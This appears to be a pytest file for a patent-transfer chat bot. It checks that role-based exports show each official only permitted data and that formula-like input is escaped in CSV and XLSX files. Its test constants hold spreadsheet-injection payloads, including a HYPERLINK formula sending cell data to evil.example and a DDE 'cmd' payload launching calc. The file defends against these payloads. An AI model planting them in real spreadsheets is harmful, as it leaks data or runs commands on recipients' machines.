"""/export reveals only what the reader may see, and nothing in it runs as a formula — acted out
through the emulator on SQLite and PostgreSQL: a county officer gets only the county's institutions,
no inventor's draft, no rater's identity; a city officer no rater identity; the patent's office and
an admin see who rated. Rating comments, counterparties and attendee names typed as formulas arrive as
quoted text in every CSV and XLSX."""
from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
from types import SimpleNamespace

from openpyxl import load_workbook

from bot.config import PROJECT_ROOT, SHIPPED_CORPUS
from bot.io.importer import STANDARD_COLUMNS
from tests.harness import ADMIN, running_program, user_with_role as make_role
from tests.test_assessment import full_assessment, link, make_inventor
from tests.test_enterprise import ENTERPRISE_RATING, Typed, rate, record_licence_deal, register_enterprise

PATENT = "CN113914863A"          # 福州大学, 鼓楼区
TEA = "CN202020000002U"          # 闽江学院, 闽侯县
LOOSE = "CN300000003A"           # no institution
FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
FORMULA_PARTY = "+1+cmd|' /C calc'!A0"
FORMULA_NAME = "@SUM(1+1)"


def import_library(tmp_path, db_url: str) -> None:
    """The operator imports the base library: the mining patent (real text, from the shipped corpus)
    owned by 福州大学 in 鼓楼区, a tea dryer of 闽江学院 in 闽侯县, and a patent of no institution."""
    mining = next(r for r in map(json.loads, gzip.open(SHIPPED_CORPUS, "rt", encoding="utf-8"))
                  if r.get("pub_no") == PATENT)
    rows = [{"pub_no": PATENT, "title": mining["title"], "abstract": mining["abstract"], "applicant": "福州大学",
             "county": "鼓楼区"},
            {"pub_no": TEA, "title": "一种茶叶烘干装置", "abstract": "本实用新型公开了一种茶叶烘干装置。",
             "applicant": "闽江学院", "county": "闽侯县"},
            {"pub_no": LOOSE, "title": "一种温度传感器", "abstract": "本发明公开了一种温度传感器。"}]
    path = tmp_path / "base.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.DictWriter(f, fieldnames=STANDARD_COLUMNS)
        w.writeheader()
        w.writerows(rows)
    env = {"DATA_DIR": str(tmp_path / "operator"), "DATABASE_URL": db_url, "SEED_CORPUS": "0", "PATH": "/usr/bin:/bin"}
    out = subprocess.run([sys.executable, str(PROJECT_ROOT / "run_bot.py"), "import", str(path)], env=env,
                         capture_output=True, text=True, timeout=180)
    assert out.returncode == 0, out.stderr


async def export_of(u) -> SimpleNamespace:
    """``u`` sends /export: the CSV's rows by id, and the XLSX workbook (formulas kept as formulas)."""
    replies = await u.send("/export")
    docs = {m.document["file_name"].rsplit(".", 1)[1]: m for m in replies if m.document}
    raw = await u.download(docs["csv"].document["file_id"])
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    wb = load_workbook(io.BytesIO(await u.download(docs["xlsx"].document["file_id"])))
    ratings = list(wb.worksheets[1].iter_rows(values_only=True))
    txns = list(wb.worksheets[2].iter_rows(values_only=True))
    return SimpleNamespace(rows=rows, raw=raw.decode("utf-8-sig"), wb=wb,
                           ratings=[dict(zip(ratings[0], r)) for r in ratings[1:]],
                           txns=[dict(zip(txns[0], r)) for r in txns[1:]])


def no_live_formula(export: SimpleNamespace) -> None:
    for row in csv.reader(io.StringIO(export.raw)):
        assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")], row
    for ws in export.wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@")), cell.value


async def staged(bot) -> SimpleNamespace:
    """The mining patent's inventor has linked it and answered every assessment step without
    submitting (a draft); an enterprise rated it with a formula for a comment; its office recorded a
    licence to a formula-named counterparty."""
    s = SimpleNamespace(inventor=await make_inventor(bot))
    await link(s.inventor)
    s.tto = await make_role(bot, 5101, "技转办", "tto 福州大学")
    s.ent = await register_enterprise(bot)
    await rate(s.ent, *ENTERPRISE_RATING[:-1], Typed(FORMULA_COMMENT))
    saved = await s.ent.press("✅ 确认提交")
    assert "已保存您对" in saved.text
    await s.tto.wait_for("收到企业评价", timeout=10)  # the push arrives before the office opens the card
    await record_licence_deal(s.tto, FORMULA_PARTY)
    await s.inventor.wait_for("收到企业评价", timeout=10)
    review = await full_assessment(s.inventor)
    assert "请核对自评内容" in review.text  # answered, not submitted: the inventor's own draft
    s.gulou = await make_role(bot, 6002, "鼓楼区科技局", "officer 科技局@鼓楼区")
    s.minhou = await make_role(bot, 6003, "闽侯县科技局", "officer 科技局@闽侯县")
    s.city = await make_role(bot, 6001, "市局", "officer 市场监管局")
    return s


async def test_exports_reveal_only_what_each_reader_may_see(db_url, tmp_path):
    import_library(tmp_path, db_url)
    (tmp_path / "bot").mkdir()
    async with running_program(tmp_path / "bot", db_url) as bot:
        s = await staged(bot)

        gulou = await export_of(s.gulou)
        assert set(gulou.rows) == {PATENT}  # not 闽侯县's, not the unassigned one
        mine = gulou.rows[PATENT]
        assert mine["sa_status"] == "" and mine["sa_industry"] == "" and mine["sa_intents"] == ""  # a draft
        assert mine["ratings_count"] == "1" and mine["txn_count"] == "1"
        assert [r["评价人 ID"] for r in gulou.ratings] == [None]  # the rating, not who gave it
        assert gulou.ratings[0]["评语"] == "'" + FORMULA_COMMENT and gulou.txns[0]["交易对方"] == "'" + FORMULA_PARTY
        no_live_formula(gulou)

        minhou = await export_of(s.minhou)
        assert set(minhou.rows) == {TEA} and minhou.ratings == [] and minhou.txns == []
        assert "福州大学" not in minhou.raw and "掘进机" not in minhou.raw

        city = await export_of(s.city)
        assert set(city.rows) == {PATENT, TEA, LOOSE} and [r["评价人 ID"] for r in city.ratings] == [None]
        for who in (s.tto, bot.users[ADMIN]):  # the patent's office is told who rated; so is an admin
            seen = await export_of(who)
            assert [r["评价人 ID"] for r in seen.ratings] == [5001]
            no_live_formula(seen)
        assert set((await export_of(s.tto)).rows) == {PATENT}

        # once submitted, the assessment is the office's to see, and the county's
        await s.inventor.press("✅ 确认提交")
        after = await export_of(s.gulou)
        assert after.rows[PATENT]["sa_status"] == "submitted" and after.rows[PATENT]["sa_intents"] == "transfer;license"
        enterprise = await s.ent.send("/export")
        assert "🔒" in enterprise[0].text and not [m for m in enterprise if m.document]


async def test_an_attendee_named_like_a_formula_is_text_in_the_attendee_lists(bot):
    from tests.test_events import NOW, create_event, with_role

    bot.clock.set(NOW)
    organiser = await with_role(bot, 6101, "officer", "科技局@鼓楼区", "王科长")
    colleague = await with_role(bot, 6102, "officer", "科技局@鼓楼区", FORMULA_NAME)
    await create_event(organiser)
    await colleague.wait_for("锂电池专利对接会", timeout=10)
    (lst,) = await colleague.send("/events")
    await colleague.press("1", message_id=lst.message_id)
    await colleague.press("✍️ 报名")
    assert await bot.services.outbox.drain(timeout=20)
    await organiser.send("/myevents")
    await organiser.press("⚙️ 管理：锂电池专利对接会")
    await organiser.press("📄 报名名单 CSV")
    doc = await organiser.wait_for(lambda m: m.document is not None and m.document["file_name"].endswith(".csv"))
    rows = list(csv.reader(io.StringIO((await organiser.download(doc.document["file_id"])).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA_NAME
    await organiser.press("📊 报名名单 Excel")
    doc = await organiser.wait_for(lambda m: m.document is not None and m.document["file_name"].endswith(".xlsx"))
    ws = load_workbook(io.BytesIO(await organiser.download(doc.document["file_id"]))).active
    assert ws["B2"].value == "'" + FORMULA_NAME and ws["B2"].data_type == "s"


async def test_an_institution_named_like_a_formula_is_text_in_the_stats_workbook(bot, tmp_path):
    path = tmp_path / "base.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([["pub_no", "title", "abstract", "institution"],
                                 [LOOSE, "一种温度传感器", "本发明公开了一种温度传感器。", "=1+2"]])
    env = {"DATA_DIR": str(tmp_path / "operator"), "DATABASE_URL": bot.settings.database_url, "SEED_CORPUS": "0",
           "PATH": "/usr/bin:/bin"}
    out = subprocess.run([sys.executable, str(PROJECT_ROOT / "run_bot.py"), "import", str(path)], env=env,
                         capture_output=True, text=True, timeout=180)
    assert out.returncode == 0, out.stderr
    city = await make_role(bot, 6001, "市局", "officer 市场监管局")
    await city.send("/stats")
    doc = (await city.press("📥 下载 XLSX")).last
    ws = load_workbook(io.BytesIO(await city.download(doc.document["file_id"]))).worksheets[0]
    names = [row[0].value for row in ws.iter_rows(min_row=2)]
    assert "'=1+2" in names and not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
